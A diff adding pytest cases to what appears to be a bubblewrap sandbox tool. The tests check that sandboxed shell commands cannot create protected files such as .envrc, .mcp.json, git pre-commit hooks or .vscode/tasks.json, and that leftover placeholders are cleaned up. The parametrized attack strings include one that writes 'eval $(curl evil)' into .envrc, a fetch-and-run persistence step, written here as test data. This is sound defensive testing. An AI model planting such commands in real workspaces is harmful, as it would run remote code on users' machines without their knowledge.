@@ -164,3 +164,35 @@ def test_dry_run_runs_nothing(sandbox):
     assert result.returncode == 0
     assert "bwrap" in result.stdout
     assert not (sandbox.workspace / "marker").exists()
+
+
+@pytest.mark.parametrize("attack", [
+    "echo 'eval $(curl evil)' > .envrc",
+    "echo '{\"mcpServers\": {}}' > .mcp.json",
+    "git init -q . && echo evil > .git/hooks/pre-commit",
+    "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+    "mv .vscode v && mkdir .vscode && echo '{}' > .vscode/tasks.json",
+    "echo x > made && mv made .envrc",
+])
+def test_absent_protected_paths_cannot_be_created(sandbox, attack):
+    result = sandbox.sh(attack + "; echo end")
+    assert "end" in result.stdout
+    leftovers = sorted(p.name for p in sandbox.workspace.iterdir())
+    assert leftovers in ([], ["made"]), leftovers  # placeholders gone, nothing planted
+
+
+def test_placeholders_of_a_killed_supervisor_are_swept_by_the_next_run(sandbox):
+    import signal
+    import time
+
+    proc = subprocess.Popen(sandbox.argv("--", "sleep", "30"), cwd=sandbox.workspace, env=sandbox.env(),
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    for _ in range(200):
+        if (sandbox.workspace / ".envrc").exists():
+            break
+        time.sleep(0.05)
+    assert (sandbox.workspace / ".envrc").exists()  # held during the run
+    os.kill(proc.pid, signal.SIGKILL)
+    proc.wait()
+    assert sandbox.run("--", "true").returncode == 0
+    assert sorted(p.name for p in sandbox.workspace.iterdir()) == []
